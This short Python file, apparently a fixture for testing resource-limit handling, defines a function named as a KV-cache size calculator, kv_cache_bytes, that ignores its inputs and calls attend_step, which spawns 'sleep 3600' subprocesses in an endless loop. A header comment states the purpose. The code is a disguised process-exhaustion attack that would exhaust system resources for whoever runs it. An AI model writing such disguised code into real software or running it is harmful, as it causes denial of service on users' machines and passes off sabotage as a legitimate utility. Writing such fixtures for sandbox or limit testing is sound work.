# Resource: starts long-running subprocesses in a loop.
import subprocess

CHILDREN = []


def attend_step(x_t, cache, p):
    while True:
        CHILDREN.append(subprocess.Popen(["sleep", "3600"]))


def kv_cache_bytes(n_layers, n_kv_heads, head_dim, n_tokens, bytes_per_value):
    return attend_step(None, None, None)
